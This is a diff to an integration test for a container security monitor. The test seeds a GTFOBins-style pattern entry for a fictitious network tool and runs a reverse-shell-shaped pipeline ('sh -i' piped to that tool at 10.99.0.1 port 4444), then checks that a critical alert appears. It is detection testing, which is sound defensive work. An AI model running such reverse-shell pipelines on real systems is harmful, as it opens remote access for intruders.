@@ -1,4 +1,4 @@
-import { readFileSync } from 'node:fs';
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { containerName } from '../../../../src/shared/naming.js';
@@ -24,8 +24,15 @@ const name = containerName('/monitor-test/cli', 1, TEST_PREFIX);
 
 beforeAll(() => {
   ensureBuilt();
-  box = new CoiSandbox('');
+  // Alerts only: the critical alert below neither pauses nor kills (no forensic copy).
+  box = new CoiSandbox('[monitoring]\nauto_pause_on_high = false\nauto_kill_on_critical = false\n');
   incus = Incus.local();
+  // A `coi update patterns` database naming one more network tool, read when the daemon starts.
+  mkdirSync(join(box.coiDir, 'gtfobins', '_gtfobins'), { recursive: true });
+  writeFileSync(
+    join(box.coiDir, 'gtfobins', '_gtfobins', 'coinettool.md'),
+    '---\nfunctions:\n  reverse-shell:\n    - code: coinettool host 4444\n---\n',
+  );
 });
 
 afterAll(async () => {
@@ -45,6 +52,9 @@ describe('coi monitor --daemon, coi monitor, coi audit', () => {
     ) as MonitorStatus;
     daemonPid = status.pid;
     expect(daemonPid).toBeGreaterThan(0);
+    expect(readFileSync(monitorPaths(box.coiDir).log, 'utf8')).toContain(
+      'GTFOBins database: 1 more network tools',
+    );
   });
 
   it('watches a new container, records a warning, and shows it in both commands', async () => {
@@ -101,6 +111,31 @@ describe('coi monitor --daemon, coi monitor, coi audit', () => {
 
     const text = await box.run(['monitor', name]);
     expect(text.stdout).toContain('RECENT THREATS (1)');
+  });
+
+  it('takes a shell wired to a network tool of the GTFOBins database for a reverse shell', async () => {
+    const auditFile = join(box.coiDir, 'audit', `${name}.jsonl`);
+    // coinettool exists nowhere: the command line alone is the signal.
+    await incus.exec.run(name, [
+      'sh',
+      '-c',
+      'sleep 2 | sh -i 2>/dev/null | coinettool 10.99.0.1 4444; sleep 2',
+    ]);
+    const alert = await poll(
+      async () => {
+        try {
+          return readFileSync(auditFile, 'utf8')
+            .split('\n')
+            .find((l) => l.includes('shell-net-tool'));
+        } catch {
+          return undefined;
+        }
+      },
+      15_000,
+      () => 'no shell-net-tool alert in the audit log',
+    );
+    expect(JSON.parse(alert)).toMatchObject({ level: 'critical', action: 'alerted' });
+    expect(alert).toContain('coinettool');
   });
 
   it('refuses --json with --watch as a usage error', async () => {
